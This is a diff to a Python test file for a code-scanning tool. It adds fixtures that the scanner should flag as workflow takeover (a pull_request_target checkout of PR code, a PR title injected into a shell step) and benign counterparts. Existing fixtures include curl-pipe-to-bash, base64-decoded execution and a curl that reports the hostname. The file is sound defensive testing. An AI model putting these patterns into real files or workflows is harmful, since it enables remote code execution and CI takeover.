@@ -10,6 +10,7 @@ from codeguard.analysis.rules.capabilities import SIGNAL
 from codeguard.corpus.chunking import chunk_file
 from codeguard.models import Severity
 
+HEAD = "${{ github.event.pull_request"
 _SEVERITY = {rule.id: rule.severity for rule in SIGNAL.rules}
 
 
@@ -30,6 +31,12 @@ def grave(name: str, text: str) -> set[str]:
         ("Dockerfile", "FROM a\nRUN curl -s http://127.0.0.1/x | bash\n", "download-and-run"),
         ("ci.yml", "steps:\n  - run: echo aGk= | base64 -d | bash\n", "decoded-exec"),
         ("Makefile", "all:\n\tcurl http://127.0.0.1/$(whoami)\n", "reports-host"),
+        (
+            "a.yml",
+            f"on: pull_request_target\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n",
+            "workflow-takeover",
+        ),
+        ("a.yml", f"steps:\n- run: |\n    set -e\n    echo '{HEAD}.title }}}}'\n", "workflow-takeover"),
         ("README.md", "Run `curl -s https://tool.example.org/i | sh`.\n", "download-and-run"),
     ],
 )
@@ -45,6 +52,9 @@ def test_bad(name: str, text: str, rule: str) -> None:
         ("README.md", "    curl -fsSL https://get.docker.com | sh\n"),
         ("action.yaml", "# curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"),
         ("Makefile", "all:\n\tcurl -o data.csv https://example.org/data.csv\n"),
+        ("a.yml", f"on: pull_request\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n"),
+        ("a.yml", f"steps:\n- run: |\n    echo $TITLE\n  env:\n    TITLE: {HEAD}.title }}}}\n"),
+        ("a.yml", f"steps:\n- run: echo '{HEAD}.number }}}}'\n"),
     ],
 )
 def test_honest(name: str, text: str) -> None:
